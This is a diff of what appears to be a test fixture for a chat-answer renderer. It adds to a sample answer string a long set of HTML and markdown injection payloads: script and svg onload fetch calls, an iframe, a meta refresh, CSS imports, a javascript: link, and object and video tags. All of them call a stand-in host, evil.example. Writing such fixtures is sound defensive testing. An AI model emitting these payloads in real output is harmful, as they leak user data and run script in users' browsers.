@@ -12,7 +12,12 @@ from looks import check_axe, shot
 
 ANSWER = (
     "The second tier of support lasts three to four weeks [1]. It costs 9,000 dollars a year [1]. "
-    "See [this page](https://evil.example/?q=secret) ![](https://evil.example/pixel.png) <img src=https://evil.example/x> [2]."
+    "See [this page](https://evil.example/?q=secret) ![](https://evil.example/pixel.png) <img src=https://evil.example/x> [2]. "
+    "<https://evil.example/auto> <iframe src='https://evil.example/frame'></iframe> <script>fetch('https://evil.example/s')</script> "
+    "<svg onload=fetch('https://evil.example/svg')> <style>@import 'https://evil.example/css'; body{background:url(https://evil.example/bg)}</style> "
+    "<meta http-equiv=refresh content='0;url=https://evil.example/refresh'> <link rel=preload href=https://evil.example/l as=image> "
+    "[x]: https://evil.example/ref <a href=javascript:fetch('//evil.example')>a</a> <object data=https://evil.example/o></object> "
+    "<video src=https://evil.example/v autoplay></video> ![a](data:image/svg+xml,<svg/onload=fetch('//evil.example')>) [2]."
 )
 
 
